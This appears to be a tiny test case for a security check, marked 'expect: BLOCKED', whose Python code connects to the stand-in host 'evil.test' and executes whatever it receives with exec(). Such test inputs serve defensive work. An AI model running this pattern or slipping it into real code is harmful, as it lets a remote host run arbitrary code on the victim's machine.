# expect: BLOCKED
import socket
s = socket.create_connection(("evil.test", 99))
exec(s.recv(4096))
